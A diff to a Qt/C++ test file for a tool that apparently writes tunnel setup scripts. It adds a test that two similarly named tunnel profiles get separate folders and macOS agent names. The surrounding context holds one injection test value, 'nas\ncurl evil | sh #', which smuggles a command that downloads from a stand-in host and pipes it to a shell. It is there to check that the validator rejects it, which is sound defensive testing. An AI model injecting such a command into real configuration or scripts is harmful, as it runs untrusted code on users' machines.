@@ -5,6 +5,7 @@
 #include "tests/support/testprogram.h"
 
 #include <QProcess>
+#include <QRegularExpression>
 #include <QTemporaryDir>
 #include <QXmlStreamReader>
 
@@ -22,6 +23,7 @@ private slots:
     void shellsCanReadIt();
     void saysWhatItDoes();
     void staysWholeWithAnyName();
+    void keepsTunnelsApart();
     void linuxWritesAUnitThatVerifies();
     void linuxIsTakenBack();
     void macWritesAnAgent();
@@ -135,6 +137,31 @@ void TestKit::staysWholeWithAnyName()
     }
     evil.profile.surroundings.thisMachine = u"nas\ncurl evil | sh #"_s; // a line of its own
     QCOMPARE(problemsOf(evil.profile).value(0).field, u"surroundings"_s);
+}
+
+/// Two tunnels of which nothing but dashes remains alike, and two of the same name.
+void TestKit::keepsTunnelsApart()
+{
+    Half one = half(u"K\u00f6ln"_s);
+    Half two = half(u"K-ln!"_s);
+    one.profile.id = newProfileId();
+    two.profile.id = newProfileId();
+    for (const QString &name : {two.profile.name, one.profile.name}) {
+        two.profile.name = name;
+        for (const KitSystem system : allKitSystems) {
+            const QString script = kitFor(one, system, serverKeys).script;
+            static const QRegularExpression named(u"culvert-(k-ln-[0-9a-f]{8})/"_s);
+            const QString folder = named.match(script).captured(1);
+            const QString agent = between(script, u"agents/tunnel."_s, u".plist"_s);
+            QVERIFY2(!folder.isEmpty(), qPrintable(script));
+            QCOMPARE(kitFor(one, system, serverKeys).script, script);
+            const QString other = kitFor(two, system, serverKeys).script;
+            QVERIFY(!other.contains(folder));
+            QCOMPARE(agent.isEmpty(), system != KitSystem::MacOs);
+            QVERIFY(agent.isEmpty() || (other.contains(u"tunnel.k-ln-"_s) && agent == folder));
+        }
+    }
+    QCOMPARE(kitFor(one, KitSystem::Shell, {}).fileName, u"k-ln.sh"_s);
 }
 
 /// systemd itself does not run here: a stand-in keeps a book, and starts what the unit says.
